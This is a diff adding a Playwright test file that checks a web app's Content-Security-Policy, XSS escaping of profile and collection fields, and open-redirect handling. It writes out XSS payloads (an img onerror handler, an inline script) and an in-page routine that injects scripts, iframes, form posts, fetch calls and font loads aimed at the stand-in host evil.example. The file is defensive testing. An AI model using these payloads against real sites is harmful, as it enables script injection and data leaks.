@@ -1,0 +1,113 @@
+import type { Page } from '@playwright/test'
+import { createCollection, shareCollection } from '../../contract/collections.ts'
+import { updateProfile } from '../../contract/profiles.ts'
+import { sharePath } from '../../contract/sharing.ts'
+import { expect, newEmail, signIn, signInRequest, test } from './fixtures.ts'
+import { makeListener } from './listeners.ts'
+
+test.describe('what the Content-Security-Policy forbids', () => {
+  test.use({
+    violatesPolicy: true,
+    expectedErrors: [/Content Security Policy|Refused to|violates|ERR_BLOCKED_BY_CSP/],
+  })
+
+  test('D-87: no script, frame, connection, form or base of anybody else; each try is seen', async ({
+    page,
+    violations,
+  }) => {
+    await page.goto('/')
+    expect(await page.evaluate(tryEverything)).toEqual([])
+    await expect
+      .poll(() => [...new Set(violations.map((text) => text.split(' ')[0]))].sort())
+      .toEqual([
+        'base-uri',
+        'connect-src',
+        'font-src',
+        'form-action',
+        'frame-src',
+        'media-src',
+        'object-src',
+        'script-src-attr',
+        'script-src-elem',
+        'worker-src',
+      ])
+  })
+})
+
+test('VALIDATION-12: names, bio and collections are text wherever they are shown, and nothing of them runs', async ({
+  page,
+  baseURL,
+}) => {
+  const markup = '<img src=x onerror="document.title=1">'
+  const bio = '<script>document.title = 1</script><marquee>loud</marquee>'
+  const listener = await makeListener(baseURL ?? '', { firstName: markup, bio, isPublic: true })
+  const email = newEmail()
+  await signInRequest(page.request, email)
+  await page.request.put(updateProfile.path, { data: { firstName: markup, bio, isPublic: true } })
+  const made = await listener.api.post(createCollection.path, { data: { name: markup, description: bio } })
+  const { id } = (await made.json()) as { id: string }
+  const shared = await listener.api.post(shareCollection.path.replace(':id', id))
+  const { shareToken } = (await shared.json()) as { shareToken: string }
+
+  await signIn(page, { email, path: '/profile' })
+  await expectText(page, markup)
+  await page.goto(sharePath('collection', shareToken))
+  await expectText(page, markup)
+  await expectText(page, bio)
+})
+
+test('the pages of the API document keep to the policy too', async ({ page }) => {
+  await page.goto('/docs')
+  await expect(page.getByText('Mails a sign-in link that works once').first()).toBeVisible()
+})
+
+test('an address with two slashes in front leads nowhere else', async ({ request, baseURL }) => {
+  for (const path of ['//evil.example', '//evil.example/%2f..', '/%5cevil.example', '///evil.example/']) {
+    const answer = await request.get(`${baseURL}${path}`, { maxRedirects: 0 })
+    expect([path, answer.headers().location]).toEqual([path, undefined])
+  }
+})
+
+async function expectText(page: Page, text: string): Promise<void> {
+  await expect(page.getByText(text).first()).toBeVisible()
+  await expectNothingRan(page)
+}
+
+async function expectNothingRan(page: Page): Promise<void> {
+  await expect(page.locator('#root img[src="x"], #root script, #root marquee')).toHaveCount(0)
+  await expect(page).not.toHaveTitle('1')
+}
+
+/** Runs in the page: what an attacker who can write into it would try. Gives what worked. */
+async function tryEverything(): Promise<string[]> {
+  const worked: string[] = []
+  Object.assign(window, { tell: (what: string) => worked.push(what) })
+  const add = (name: string, attributes: Record<string, string>, text = '') => {
+    const element = document.createElement(name)
+    for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value)
+    element.textContent = text
+    document.body.append(element)
+    return element
+  }
+  add('script', {}, "tell('inline script')")
+  add('script', { src: 'https://evil.example/x.js' })
+  add('button', { onclick: "tell('inline handler')" }).click()
+  add('iframe', { src: 'https://evil.example/' })
+  add('object', { data: 'https://evil.example/x.swf' })
+  add('base', { href: 'https://evil.example/' })
+  add('audio', { src: 'https://evil.example/x.mp3' })
+  const form = add('form', { action: 'https://evil.example/', method: 'post' }) as HTMLFormElement
+  form.submit()
+  await fetch('https://evil.example/').then(
+    () => worked.push('fetch'),
+    () => {},
+  )
+  try {
+    new Worker('data:text/javascript,1')
+  } catch {}
+  await new FontFace('Evil', "url('https://evil.example/x.woff2')").load().then(
+    () => worked.push('font'),
+    () => {},
+  )
+  return worked
+}
